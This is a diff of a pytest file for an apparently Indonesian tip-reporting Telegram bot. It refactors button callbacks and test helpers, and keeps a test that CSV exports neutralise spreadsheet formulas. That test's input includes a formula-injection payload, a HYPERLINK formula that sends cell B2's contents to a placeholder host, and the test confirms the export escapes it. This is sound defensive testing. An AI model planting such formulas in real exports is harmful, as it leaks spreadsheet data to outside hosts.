@@ -9,9 +9,11 @@ import json
 
 import pytest
 
+from bot.tg import callbacks
 from bot.tips.export import FORMULA_START, neutralised, to_csv, to_json
 from tests.botenv import running_bot
-from tests.tipchat import Chat, fill_report
+from tests.chat import Chat
+from tests.tipchat import fill_report
 
 OWNER, REVIEWER, REPORTER = 9001, 9002, 6501
 WHO = '=HYPERLINK("http://x/?"&B2,"x")'
@@ -50,17 +52,16 @@ async def test_a_reporters_formulas_reach_the_reviewer_as_text(tmp_path):
         await Chat(env.fake, OWNER).say(f"/grant {REVIEWER} reviewer")
         reporter, reviewer = Chat(env.fake, REPORTER), Chat(env.fake, REVIEWER)
         review = await fill_report(reporter)
-        await reporter.press(review, "L:edit:who")
+        await reporter.press(review, callbacks.TipButton("edit", "who"))
         [review] = await reporter.say(WHO)
-        await reporter.press(review, "L:edit:regency")
+        await reporter.press(review, callbacks.TipButton("edit", "regency"))
         [review] = await reporter.say(REGENCY)
         assert "Periksa laporan" in review.text and "HYPERLINK" in review.text and REGENCY in review.text
-        [receipt] = await reporter.press(review, "L:send")
+        [receipt] = await reporter.press(review, callbacks.TipButton("send"))
         assert "LPR-" in receipt.text
 
-        env.fake.send_text(reviewer.user, "/export")  # answered with a document, not a message
-        await env.fake.wait_for(lambda: env.fake.sent(REVIEWER, "sendDocument"))
-        [document] = env.fake.sent(REVIEWER, "sendDocument")
+        reviewer.send("/export")  # answered with a document, not a message
+        [document] = await reviewer.wait_sent("sendDocument")
         [row] = read_csv(document.params["document"]["content"])
         assert row["reported_person"] == "'" + WHO and row["regency"] == "'" + REGENCY
         assert row["public_no"].startswith("LPR-") and row["description"][0] not in FORMULA_START
